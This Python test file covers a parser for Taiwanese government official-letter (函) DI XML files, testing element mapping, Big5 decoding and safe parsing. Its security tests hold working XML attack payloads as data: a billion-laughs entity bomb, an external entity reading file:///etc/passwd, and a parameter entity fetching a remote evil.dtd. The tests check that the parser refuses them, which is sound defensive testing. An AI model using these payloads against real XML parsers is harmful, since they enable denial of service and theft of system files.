"""DI files in (extractors/di.py): every element of the 函 list mapped, safely parsed, UTF-8 and Big5."""

from __future__ import annotations

import datetime
import json
from pathlib import Path

import pytest

from extractors.di import DIError, parse_di, read_di, read_di_file

SHARED_LETTERS = Path(__file__).resolve().parents[3] / "shared" / "letters"

# every element of the list, with what a printed letter would make of it in the comments
LETTER = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 SYSTEM "104_2_utf8.dtd" [
<!ENTITY ATTCH1 SYSTEM "A1120001_ATTCH1.pdf" NDATA DI>
<!ENTITY ATTCH2 SYSTEM "A1120001_ATTCH2.odt" NDATA DI>
<!NOTATION DI SYSTEM "">
]>
<函>
<發文機關><全銜>衛生福利部</全銜><機關代碼>A21000000I</機關代碼></發文機關>
<函類別 代碼="書函"/>
<地址>115204臺北市南港區忠孝東路6段488號</地址>
<聯絡方式>承辦人：技正　王小明</聯絡方式>
<聯絡方式>電話：(02)8590-6666#7110</聯絡方式>
<聯絡方式>傳真：(02)8590-7080</聯絡方式>
<聯絡方式>電子信箱：wang@mohw.gov.tw</聯絡方式>
<受文者><全銜>臺中市政府衛生局</全銜></受文者>
<發文日期><年月日>中華民國112年5月30日</年月日></發文日期>
<發文字號><字>衛部醫字</字><文號><年度>112</年度><流水號>0100216</流水號><支號>A</支號></文號></發文字號>
<速別 代碼="速件"/>
<密等及解密條件或保密期限><密等>密</密等><解密條件或保密期限>公布後解密</解密條件或保密期限></密等及解密條件或保密期限>
<附件><文字>如說明二</文字><附件檔名 附件名="ATTCH1 ATTCH2"/></附件>
<主旨><文字>檢送「診所品質認證」計畫1份，請查照。</文字></主旨>
<段落 段名="說明：">
<條列 序號="一、"><文字>依據本部112年5月2日衛部醫字第1120100001號函辦理。</文字></條列>
<條列 序號="二、"><文字>申請期間如下：</文字>
<條列 序號="(一)"><文字>申請期間自112年5月15日至112年6月30日止。</文字></條列>
<條列 序號="(二)"><文字>逾期不受理。</文字>
<條列 序號="1."><文字>補件以一次為限。</文字></條列>
</條列>
</條列>
</段落>
<段落 段名="辦法："><文字>請轉知所屬
會員。</文字></段落>
<正本><全銜>臺中市政府衛生局、臺南市政府衛生局(含附件)</全銜></正本>
<副本><全銜>本部醫事司</全銜></副本>
<署名>部長　薛瑞元</署名>
</函>
"""


def test_every_element_is_mapped() -> None:
    letter = read_di(LETTER.encode("utf-8"))
    doc = letter.document
    assert (doc.kind, doc.pages, doc.sender, doc.sender_code, doc.doc_type) == (
        "letter", [], "衛生福利部", "A21000000I", "書函"
    )
    assert doc.contact is not None
    assert doc.contact.model_dump() == {
        "address": "115204臺北市南港區忠孝東路6段488號", "unit": None, "name": "王小明", "title": "技正",
        "phone": "(02)8590-6666#7110", "fax": "(02)8590-7080", "email": "wang@mohw.gov.tw",
    }
    assert doc.recipient == "臺中市政府衛生局"
    assert doc.issue_date == datetime.date(2023, 5, 30)
    assert doc.doc_number == "衛部醫字第1120100216A號"  # 字 + 年度 + 流水號 + 支號, as letters print it
    assert (doc.speed, doc.security) == ("速件", "密（公布後解密）")
    assert letter.attachment_files == ["A1120001_ATTCH1.pdf", "A1120001_ATTCH2.odt"]
    assert doc.attachments == "如說明二 (A1120001_ATTCH1.pdf、A1120001_ATTCH2.odt)"
    assert doc.subject == "檢送「診所品質認證」計畫1份，請查照。"
    tree = [item.model_dump() for item in doc.explanation or []]
    assert tree == [
        {"label": "一", "text": "依據本部112年5月2日衛部醫字第1120100001號函辦理。", "children": []},
        {"label": "二", "text": "申請期間如下：", "children": [
            {"label": "一", "text": "申請期間自112年5月15日至112年6月30日止。", "children": []},
            {"label": "二", "text": "逾期不受理。", "children": [
                {"label": "1", "text": "補件以一次為限。", "children": []},
            ]},
        ]},
    ]
    assert [item.model_dump() for item in doc.measures or []] == [
        {"label": "", "text": "請轉知所屬會員。", "children": []}  # the XML's line break joined
    ]
    assert doc.cc_main == ["臺中市政府衛生局", "臺南市政府衛生局"]
    assert doc.cc_with_attachments == ["臺南市政府衛生局"]
    assert doc.cc_copy == ["本部醫事司"]
    assert doc.signatory == "部長　薛瑞元"
    # derived as for a printed letter: the cited 字號, every date, the end of the 申請期間
    assert doc.references == ["衛部醫字第1120100001號"]
    assert [(d.text, d.date) for d in doc.dates] == [
        ("中華民國112年5月30日", datetime.date(2023, 5, 30)), ("112年5月2日", datetime.date(2023, 5, 2)),
        ("112年5月15日", datetime.date(2023, 5, 15)), ("112年6月30日", datetime.date(2023, 6, 30)),
    ]
    assert doc.deadline == datetime.date(2023, 6, 30)
    assert doc.confidence["sender_code"] == 1.0 and doc.confidence["doc_number"] == 1.0


def test_big5_file_reads_the_same_as_utf8() -> None:
    """`99_2_big5.dtd` files are Big5: the declaration names the encoding."""
    big5 = LETTER.replace('encoding="utf-8"', 'encoding="Big5"').replace("104_2_utf8.dtd", "99_2_big5.dtd")
    data = big5.encode("big5")
    assert "衛生福利部".encode() not in data  # really another encoding
    assert read_di(data).document == read_di(LETTER.encode("utf-8")).document


def test_a_big5_file_with_bytes_that_are_not_big5_is_refused() -> None:
    data = b'<?xml version="1.0" encoding="big5"?>\n<\xa8\xe7><\xa5D\xa6\xae>\xff\xff</\xa5D\xa6\xae></\xa8\xe7>'
    with pytest.raises(DIError, match="not a Big5 DI file"):
        read_di(data)


BILLION_LAUGHS = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 [
<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<函><發文機關><全銜>某機關</全銜></發文機關><主旨><文字>&lol9;</文字></主旨></函>
"""
EXTERNAL_ENTITY = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<函><發文機關><全銜>某機關</全銜></發文機關><主旨><文字>&secret;</文字></主旨></函>
"""
PARAMETER_ENTITY = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<函><主旨><文字>x</文字></主旨></函>
"""


SMALL_LAUGHS = BILLION_LAUGHS.replace("&lol9;", "&lol2;")  # below libxml2's own amplification limit


@pytest.mark.parametrize(
    ("data", "entity"),
    [(BILLION_LAUGHS, "entities that grow without bound"), (SMALL_LAUGHS, "the text entity 'lol'"),
     (EXTERNAL_ENTITY, "the external entity 'secret' (file:///etc/passwd)"),
     (PARAMETER_ENTITY, "the external entity 'remote'")],
    ids=["billion-laughs", "few-laughs", "external-entity", "parameter-entity"],
)
def test_entities_refuse_the_file_in_one_line(data: str, entity: str) -> None:
    with pytest.raises(DIError) as caught:
        read_di(data.encode("utf-8"))
    message = str(caught.value)
    assert message.startswith(f"unsafe DI file: it declares {entity}") and message.endswith("refused")
    assert "\n" not in message and "root:" not in message  # nothing of /etc/passwd was read


def test_the_dtd_named_by_the_file_is_never_loaded(tmp_path: Path) -> None:
    """An external DTD would declare entities for the file; it is not read, from disk or the network."""
    (tmp_path / "evil.dtd").write_text('<!ENTITY subject "from the DTD">', encoding="utf-8")
    data = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 SYSTEM "{(tmp_path / 'evil.dtd').as_uri()}">
<函><主旨><文字>主旨</文字></主旨></函>""".encode()
    assert read_di(data).document.subject == "主旨"
    assert parse_di(data).docinfo.externalDTD is None
    with pytest.raises(DIError, match=r"refers to the entity &subject;, which gongwen does not expand: refused$"):
        read_di(data.replace("主旨</文字>".encode(), "&subject;</文字>".encode()))


@pytest.mark.parametrize(
    ("data", "message"),
    [(b"", "empty DI file"), (b"%PDF-1.7 not xml", "not a DI file: XML error"),
     ('<?xml version="1.0"?><公告><主旨/></公告>'.encode(), "not a 函 DI file: its root element is <公告>")],
)
def test_what_is_no_di_file_is_one_line(data: bytes, message: str) -> None:
    with pytest.raises(DIError, match=message) as caught:
        read_di(data)
    assert "\n" not in str(caught.value)


@pytest.mark.skipif(not SHARED_LETTERS.is_dir(), reason="../shared/letters is not there")
def test_the_real_di_file_against_its_truth() -> None:
    letter = read_di_file(SHARED_LETTERS / "001_tainan.di")
    got = letter.document.model_dump(mode="json")
    truth = json.loads((SHARED_LETTERS / "001_tainan.truth.json").read_text(encoding="utf-8"))
    for key, expected in truth.items():
        if key.startswith("contact_"):
            assert got["contact"][key.removeprefix("contact_")] == expected, key
        elif key == "explanation":
            assert [item["text"] for item in got["explanation"]] == expected
        else:
            assert got[key] == expected, key
    assert letter.document.sender_code == "395000000A"
    assert letter.attachment_files == ["1558063A50_ATTCH3.pdf", "1558063A50_ATTCH2.jpg"]
